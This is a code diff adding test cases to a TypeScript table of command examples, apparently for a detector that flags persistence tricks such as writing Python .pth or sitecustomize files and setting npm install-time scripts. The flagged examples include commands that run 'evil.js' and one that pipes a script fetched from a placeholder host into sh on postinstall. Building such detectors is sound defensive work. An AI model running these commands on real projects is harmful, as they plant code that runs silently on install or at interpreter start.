@@ -72,6 +72,7 @@ export const CLASS_EXAMPLES: Record<string, { hits: string[]; misses: string[] }
   'python-startup-write': {
     hits: [
       'cp evil.pth ~/.local/lib/python3.12/site-packages/',
+      `echo 'import os' > "$(python3 -c 'import site; print(site.getsitepackages()[0])')/x.pth"`,
       'echo x > .venv/lib/python3.11/site-packages/sitecustomize.py',
     ],
     misses: ['cp pkg.pth dist/', 'cat .venv/lib/python3.11/site-packages/x.pth'],
@@ -242,7 +243,17 @@ export const CLASS_EXAMPLES: Record<string, { hits: string[]; misses: string[] }
     misses: ['pip3 install flask', 'bun add zod', 'cargo install just'],
   },
   'package-script-write': {
-    hits: ['pnpm pkg set scripts.preinstall=./x.sh', 'npm pkg set scripts.prepare="node evil.js"'],
-    misses: ['npm pkg set scripts.lint=eslint', 'npm pkg get scripts'],
+    hits: [
+      'pnpm pkg set scripts.preinstall=./x.sh',
+      'npm pkg set scripts.prepare="node evil.js"',
+      "npm set-script postinstall 'curl -s https://x.example/i | sh'",
+      `echo '{"scripts":{"postinstall":"node x.js"}}' > package.json`,
+    ],
+    misses: [
+      'npm pkg set scripts.lint=eslint',
+      'npm pkg get scripts',
+      'npm set-script lint eslint',
+      `echo '{"name":"app","scripts":{"build":"tsc"}}' > package.json`,
+    ],
   },
 };
